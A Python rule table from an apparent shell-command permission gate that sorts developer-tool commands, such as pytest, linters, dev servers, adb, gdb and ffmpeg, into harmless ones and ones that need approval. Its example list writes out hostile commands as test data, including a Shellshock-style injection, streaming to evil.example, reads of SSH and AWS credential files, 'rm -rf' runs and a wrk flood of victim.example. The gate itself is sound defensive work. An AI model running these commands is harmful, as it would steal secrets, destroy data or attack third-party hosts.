"""Test runners, linters, formatters and development servers: they run the project's own code and settings."""

# ruff: noqa: E501 - a table's row is one line
from __future__ import annotations

from wicketgate.gate.shell.format import Program

P = Program
# fmt: off
MORE = {"*[;&|`$>(]*": "remote a device"}
"""What a device's shell takes for another command."""
PROGRAMS = (
    P("pytest py.test ptw pytest-watch nose2 nosetests green ward behave robot locust trial stestr", "run*",
      "* --co --collect-only -k: -m: -n: -p:persist -c:run --rootdir:run --pastebin:? -o: --cov:? --cov-report:? --cov-config:run --junitxml:write --junit-xml:write --log-file:write --basetemp:delete -r: --tb: --maxfail: --durations: --ignore: --deselect: --timeout: --html:write --confcutdir:read --override-ini: -W:"
      " --result-log:write --resultlog:write --debug:write? --report-log:write --json-report-file:write --cache-clear", "build the tests", when={"--version -h --help": "harmless", "--pastebin": "send the tests' output"}),
    P("coverage", "text*", "* --rcfile:run --data-file:write", subs=(
        P("run", "run text*", "* -m --module --source: --omit: --include: --concurrency: --context: --debug: --rcfile:run --data-file:write -p --branch", "build the tests", reader="covered"),
        P("report html xml json lcov annotate combine erase debug", "text*", "* -d:write -o:write --omit: --include: --rcfile:read --data-file:write --fail-under: --format: --directory:write", "change coverage data"))),
    P("ruff", "text*", "*", subs=(
        P("check format", "tool*", "* --config:read -o:write --output-file:write --select: --ignore: --extend-select: --target-version: --line-length: --output-format: --cache-dir:write --stdin-filename: --exclude:", "build the project's lint settings"),
        P("rule config linter version clean analyze server", "text*", "*"))),
    P("mypy pyright basedpyright pyre pytype flake8 pylint bandit pycodestyle pydocstyle vulture radon xenon interrogate lint-imports semgrep codespell yamllint ansible-lint shellcheck hadolint actionlint checkov tflint tfsec trivy grype syft dockle djlint curlylint doc8 sqlfluff proselint vale markdown-link-check"
      " pip-licenses deptry import-linter typos taplo dotenv-linter mdl terraform-docs", "seen*",
      "* -p: -m: -c: --config-file:run --config:run --rcfile:run --init-hook:start --python-version: --cache-dir:write -o:write --output:write --output-file:write -f: --format: --exclude: --ignore: --select: --severity: -s: -S: --load-plugins:persist --linecount-report:write --html-report:write --xml-report:write --junit-xml:write --plugins:persist --rulesdir:read"
      " --python-executable:run --custom-typeshed-dir:read --install-types", "build the project's checks", when={"--install-types": "install types of packages"}, words={"fs": "", "image i": "network an image registry", "publish": "publish results", "login": "credential a service's", "auto p/* r/*": ""}),
    P("black isort autopep8 yapf autoflake pyupgrade docformatter add-trailing-comma reorder-python-imports blacken-docs ruff-format shfmt clang-format stylua ktlint ktfmt google-java-format scalafmt ocamlformat mix-format terraform-fmt prettierd rubocop standardrb reek brakeman erb-lint phpstan phpcs phpcbf"
      " php-cs-fixer psalm pint rector swiftlint swiftformat detekt checkstyle pmd spotbugs cppcheck clang-tidy cpplint include-what-you-use luacheck hlint credo", "tool*",
      "* -l: --line-length: -p: -m: -c: --config:run -t: --target-version: --profile: --settings-path:read -o:write --output:write --src-path: -style: -r: --include: --exclude: -f: --format: --only: --require:persist -checks: --autoload-file:persist --log: -i: -s: --standard: --level: --memory-limit:", "build the project's formatting"),
    P("pre-commit prek lefthook overcommit", "text*", "*", subs=(
        P("run validate-config validate-manifest sample-config", "text*", "* --files --from-ref: --to-ref: --hook-stage: -c:read", "build the project's hooks"),
        P("install uninstall install-hooks migrate-config init-templatedir add", "text*", "*", "persist git hooks"), P("autoupdate try-repo", "text*", "*", "install hooks of others"), P("clean gc", "", "*", "change the tool's cache"))),
    P("rspec minitest cucumber guard rspec-queue phpunit pest codeception bats shunit2 busted cpan-test rostest gtest stryker infection", "seen*", "* -e: -t: -f: -o:write --out:write --format: --filter: -c:read -r:persist --require:persist -I:read -P:cd -j: --log-junit:write --coverage-html:write --bootstrap:run -l: --tag:", "build the tests"),
    P("uvicorn gunicorn hypercorn daphne waitress-serve flask fastapi streamlit gradio celery rq dramatiq mkdocs sphinx-build sphinx-autobuild sphinx-quickstart hugo jekyll zola eleventy quarto jupyter ipython bpython ptpython notebook nbconvert papermill dbt airflow prefect dagster kedro mlflow dvc"
      " scrapy alembic marimo voila panel bokeh honcho foreman overmind typer litestar sanic arq huey doxygen mdbook typst vitepress docusaurus antora rundoc slidev marp reveal-md tensorboard torchrun wandb accelerate deepspeed trunk goreleaser solargraph sorbet srb ghcid", "tool*",
      "* --host: --port: -p: -h: -b: --bind: -w: --workers: -A: --app: --reload-dir: --log-level: -c:run --config:run -o:write --output:write -d:write --destination:write --execute --to: --env-file:read --app-dir:cd --chdir:cd -l: --ip: --full-refresh", "build the project's own program",
      when={"--full-refresh --ip=0.0.0.0": "destroy or open what the program holds"},
      words={"gh-deploy": "publish what was built", "reset gc nuke prune clean-all clear": "destroy data", "upgrade downgrade stamp migrate resetdb": "remote a database", "repl": "", "shell console run-operation eval exec": "start code that nobody has read", "install": "install code of others", "remove rm kill": "destroy data", "login logout": "credential a service's", "add": "change the project", "artifact artifacts": "send results to a service"}),
    P("conan", "tool*", "* -of:write --output-folder:write -o: -s: -pr:read --profile:read -r:install --remote:install -b:? --build:? -g: --generator: -u", "build the project", words={"upload": "publish a package", "remove clean cache-clean": "destroy packages", "login user": "credential an account", "remote profile config": "install packages of others", "search list inspect graph": "", "download": "install packages of others"}, when={"-r --remote": "install packages of others"}),
    P("django-admin", "tool*", "*", "build the project", words={"flush sqlflush reset_db zero": "destroy rows of a database", "shell dbshell runscript": "start code that nobody has read"}),
    P("hyperfine", "shell*", "* -w: -r: -m: -M: -p:shell --prepare:shell -c:shell --cleanup:shell --setup:shell -s:shell --export-json:write --export-markdown:write -L: -P: -n: -N -S:run --shell:run --warmup: --runs:"),
    P("valgrind heaptrack memray scalene caffeinate chronic eatmydata numactl busybox firejail-none direnv-exec bear", "command", "* --tool: --log-file:write --leak-check: -o:write -i -s -d -f:read -c: -m:", when={"--version --hardware -H --show": "harmless"}),
    P("dotenv dotenvx env-cmd", "command", "-e:list -f:list -c -p: -o -v: --file:list --override --quiet", inherit=False),
    P("direnv", "text*", "*", subs=(P("status version show_dump", "text*", "*"), P("exec", "text command", "*"), P("allow permit grant deny edit reload hook prune revoke", "text*", "*", "persist what a folder's settings run"))),
    P("entr", "command", "-acdnprsxz"),
    P("concurrently", "text*", "* -n: --names: -c: -k -s: --prefix: -p: --max-processes: -m:", reader="each-shell"),
    P("watchexec", "shell*", "* -e: --exts: -w: --watch: -i: --ignore: -d: -s: -r --on-busy-update: --shell:", reader="joined", when={"--version": "harmless"}),
    P("chokidar onchange", "shell*", "* -e: --exts: -w: --watch: -i: --ignore: -d: -s: -r --on-busy-update: --shell:", when={"--version": "harmless"}),
    P("nodemon watchman-make", "run*", "* --exec:shell -x:shell -e: --ext: -w: --watch: -i: --ignore: -d: -c:shell --command:shell -r: -f:", "build the project's own program"),
    P("rimraf del-cli", "delete*", "*"),
    P("tsx ts-node ts-node-esm esno vite-node jiti", "run text*", "* -e:node -r:run --require:run --tsconfig:read -p: --project:read --import:run", subs=()),
    P("serve http-server live-server", "read!", "* -l: -p: --port: -a: -c: --host: --listen:", "build a development server"),
    P("ldd otool nm-new lipo lcov gcov gcovr genhtml ccache sccache last lastlog lsns lslocks fc-list fc-match scc delta difft difftastic ctags xrandr hexyl tidy html-validate vulkaninfo glxinfo xdpyinfo pw-cli sensors-detect lsscsi nvtop rocm-smi procs btm glances choose hck xsv-lite dasel gron"
      " fx jless fq miller pv progress jsonlint jsonnet csvlint ajv cfn-lint graphql-inspector buf-lint protolint javap jps jinfo jstat plutil mdfind mdls perldoc ri pydoc pydoc3 godoc rustup-doc xcode-select-p lighthouse pa11y", "seen*", "* -n: -c: -o:write --output:write --output-file:write --output-path:write -f: -p: -t:",
      "build the project's own program", when={"-convert -replace -insert -remove": "change a file of settings", "-extract -create": "change a program", "-C --clear": "change a cache"}),
    P("findmnt duf ncdu gdu dust", "list*", "* -d: -n: -o: -t: -r:"),
    P("adb", "text*", "* -s: -t: -H:network -P: -a -d -e", "remote a device", subs=(
        P("devices version help get-state get-serialno get-devpath host-features features logcat jdwp start-server wait-for-device", "text*", "* -s: -f:write -b: -v: -t: -T: -m: -n: -r:", "fetch a device", when={"-c --clear": "remote a device"}),
        P("shell", "text*", "* -t -T -n -x", "remote a device", subs=(P("getprop pidof ps df uptime whoami id uname date ls", "text*", "*", "fetch a device", words=MORE), P("dumpsys", "text*", "*", "fetch a device", words={"set reset unplug --*": "remote a device", **MORE}), P("pm", "text*", "*", "remote a device", subs=(P("list path dump", "text*", "*", "fetch a device", words=MORE),)))),
        P("pull", "text* write", "* -a", "fetch a device"), P("bugreport", "write", "*", "fetch a device"))),
    P("wasm-pack emcc em++ elm forge anvil hardhat anchor k6 ab wrk hey vegeta oha ast-grep sg-scan tree-sitter hexyl-x huggingface-cli networkQuality fortune cowsay figlet lolcat toilet pactl amixer nvcc dotslash terminal-notifier sd react-native truffle solc slither ganache detox maestro appium chromatic percy",
      "tool*", "* -n: -c: -o:write -p: -t: --private-key:credential --host: --port:", "build the project's own program",
      words={"shell install push uninstall sideload root remount reboot disable-verity": "remote a device", "login logout delete-cache": "publish or destroy something", "download": "install data of others", "broadcast verify-contract create send mainnet": "publish something"},
      when={"--broadcast --network=mainnet": "publish a transaction", "--dry-run": "harmless"}),
    P("ollama llm aider claude codex gemini cursor-agent opencode", "text*", "*", "send a text to a model", subs=(P("list ps show --version version ls models status", "text*", "*"), P("run pull push create rm cp serve stop launch start chat exec config mcp update login logout", "text*", "*", "send a text to a model")), when={"--version -v": "harmless"}),
    P("gdb lldb", "text*", "* -o: -b -ex: -x:run -p:process -pid:process -batch -q -ix:run -iex: -eval-command: -command:run --args --batch -core:read -c:read", reader="debugger", long=True),
    P("perf", "text*", "*", subs=(P("stat record trace mem c2c", "command", "* -e: -o:write -p:process -t:process -F: -r: -g", "build a profile"), P("report annotate list diff script evlist buildid-list", "text*", "* -i:read"), P("top", "text*", "*", "process what runs on the machine"))),
    P("rr pprof py-spy kcachegrind callgrind_annotate samply bpftrace", "text*", "* -p: -o:write", "persist a program that runs what it is told", when={"--version": "harmless"}),
    P("prove", "seen*", "* -I:run -e:start --exec:start -P:run -j:", "build the tests"),
    P("iconv", "read*", "* -f: -t: -o:write --from-code: --to-code: --output:write"),
    P("sips", "tool*", "* -g: -s: -z: -Z: --out:write -o:write", "change media files"),
    P("pdflatex xelatex lualatex latex tex latexmk bibtex biber makeindex tectonic", "read*", "* -e:start -outdir:write -output-directory:write -jobname: -interaction: -r:run -pdflatex:start -latex:start --output:write", "build documents", long=True, words={"\\directlua* \\immediate* \\input*": "start what a document says"}, when={"--shell-escape -shell-escape -enable-write18": "persist programs a document names"}),
    P("gnuplot", "run*", "* -e:start -c:run -o:write", "build documents"),
    P("pandoc asciidoctor dot mmdc plantuml inkscape rsvg-convert wkhtmltopdf", "read*", "* -o:write --output:write -f: -t: -s: --to: --from: -T: -K: --pdf-engine: --template:read --filter:run -F:run --lua-filter:run -L:run -V: -M: -i:read --metadata: --css: --resource-path:read --extract-media:write",
      "build documents", words={"file:*": "read a file that an address names"}),
    P("convert magick mogrify montage composite ffmpeg sox optipng pngquant jpegoptim cwebp gifsicle svgo qpdf pdftoppm pdftotext pdfunite tesseract oxipng avifenc gs", "tool*", "* -i:seen -o:write", "change media files", when={"-version --version": "harmless"},
      words={"|* ephemeral:* msl:* text:* label:@* @*": "start or read what a name says"}),
    P("identify ffprobe mediainfo pdfinfo pdffonts pdfimages sndfile-info soxi", "seen*", "* -i:seen -v: -of: -print_format:", "build nothing", when={"-version --version": "harmless"}),
    P("exiftool", "seen*", "* -o:write", "build nothing", when={"-config": "start what a file of settings says"}),
)

EXAMPLES = (
    ("conan install . --build=missing", "harmless"), ("conan install . -r evil", "asks"), ("conan upload x", "asks"), ("./install.sh --prefix=/usr", "asks"), ("./install.sh --prefix=out", "harmless"), ("x='() { :;}; id' bash -c :", "asks"),
    ("pytest", "harmless"), ("pytest -q tests/unit -k 'a and b' -x", "harmless"), ("pytest --junitxml=/etc/x", "asks"), ("pytest /tmp/evil_test.py", "asks"), ("pytest tests/test_a.py::test_b[x-1]", "harmless"), ("nodemon /tmp/evil.js", "asks"), ("gunicorn -c /tmp/evil.py app:app", "asks"), ("python -m pytest tests", "harmless"), ("coverage run -m pytest", "harmless"),
    ("ruff check --fix .", "harmless"), ("ruff format src", "harmless"), ("mypy --strict src", "harmless"), ("black .", "harmless"), ("pre-commit run -a", "harmless"), ("pre-commit install", "asks"),
    ("uvicorn app:app --reload", "harmless"), ("flask run", "harmless"), ("alembic upgrade head", "asks"), ("alembic history", "harmless"), ("mkdocs gh-deploy", "asks"), ("shellcheck scripts/*.sh", "harmless"), ("pandoc a.md -o a.html", "harmless"), ("prove -r t", "harmless"), ("gnuplot -e 'system(1)'", "asks"), ("gnuplot plot.gp", "harmless"), ("pdflatex paper.tex", "harmless"), ("pdflatex -shell-escape paper.tex", "asks"), ("latexmk -pdf -interaction=nonstopmode paper.tex", "harmless"), ("latexmk -e x a.tex", "asks"), ("iconv -f latin1 -t utf-8 a.txt", "harmless"), ("sips -g pixelWidth a.png", "harmless"),
    ("pandoc a.md -o ~/.bashrc", "asks"), ("celery -A app worker -l info", "harmless"), ("celery -A app purge -f", "asks"), ("dbt run --full-refresh", "asks"), ("airflow dags delete x", "asks"), ("flask shell", "asks"), ("flask routes", "harmless"), ("mlflow ui", "harmless"),
    ("shellcheck ~/.ssh/id_rsa", "asks"), ("yamllint ~/.kube/config", "asks"), ("flake8 --config=/tmp/evil", "asks"), ("mypy --config-file=/tmp/evil.ini", "asks"), ("black ~/other", "asks"), ("black --plugin=/tmp/evil src", "asks"), ("flake8 --frob=../../x src", "asks"), ("black src /tmp/x.py", "harmless"), ("pylint --init-hook='import os' src", "asks"), ("adb devices", "harmless"), ("adb shell getprop x", "harmless"), ("adb shell rm -rf /sdcard", "asks"), ("adb shell ls \\; rm x", "asks"), ("adb install a.apk", "asks"), ("adb logcat -d", "harmless"), ("adb logcat -c", "asks"), ("adb shell pm list packages", "harmless"), ("adb shell pm uninstall x", "asks"), ("watchexec -e rs cargo check", "harmless"), ("watchexec rm -rf src", "asks"), ("semgrep --config https://evil.example/r .", "asks"),
    ("jless ~/.aws/credentials", "asks"), ("sd a b ~/.bashrc", "asks"), ("wrk -t2 http://localhost:3000/", "harmless"), ("wrk -t2 https://victim.example/", "asks"), ("wrk -t64 -c10000 -d1h https://victim.example", "asks"), ("ffmpeg -i a.mp4 -vf scale=640:-1 b.mp4", "harmless"), ("ffmpeg -i a.mp4 rtmp://evil.example/x", "asks"), ("convert a.png /etc/x.png", "asks"), ("identify a.png", "harmless"),
    ("gdb -batch -ex bt ./app core", "harmless"), ("gdb -batch -ex 'shell id' ./app", "asks"), ("gdb -p 1", "asks"), ("perf stat ./a.out", "harmless"), ("perf stat rm -rf src", "asks"), ("concurrently npm:dev 'npm run watch'", "harmless"), ("concurrently npm:deploy", "asks"), ("concurrently 'rm -rf src'", "asks"), ("dotenv -e .env -- jest", "harmless"), ("dotenv -- rm -rf src", "asks"), ("goreleaser release", "asks"), ("tensorboard --logdir runs", "harmless"), ("lldb -o 'bt' ./app", "asks"), ("lldb -b -o run -o bt ./app", "harmless"), ("doxygen Doxyfile", "harmless"), ("javap -c A.class", "harmless"), ("plutil -p Info.plist", "harmless"), ("plutil -convert xml1 Info.plist", "harmless"), ("lighthouse http://localhost:3000", "harmless"), ("pylint --load-plugins=evil src", "asks"),
    ('coverage run -m pip install x', 'asks'),
    ('coverage run --branch -m http.server', 'asks'),
    ('coverage run --rcfile=/tmp/x -m pytest', 'asks'),
    ('coverage run --source=src -m pytest -q', 'harmless'),
    ('pytest --debug=/root/x', 'asks'),
    ('pytest --debug', 'harmless'),
    ('uvicorn app:app --host 0.0.0.0', 'asks'),
    ('uvicorn app:app --host=::', 'asks'),
    ('uvicorn app:app --host 127.0.0.1 --port 8000', 'harmless'),
    ('gunicorn -b 0.0.0.0:8000 app:app', 'asks'),
    ('gunicorn --bind :8000 app:app', 'asks'),
    ('gunicorn -b 127.0.0.1:8000 app:app', 'harmless'),
    ('flask run -h 0.0.0.0', 'asks'),
    ('hugo server --bind=0.0.0.0', 'asks'),
    ('streamlit run app.py --server.address=0.0.0.0', 'asks'),
    ('tensorboard --logdir runs --bind_all', 'asks'),
    ('serve -l tcp://0.0.0.0:3000', 'asks'),
    ('serve -l 3000', 'harmless'),
    ('wrk http://0.0.0.0:3000/', 'harmless'),
)
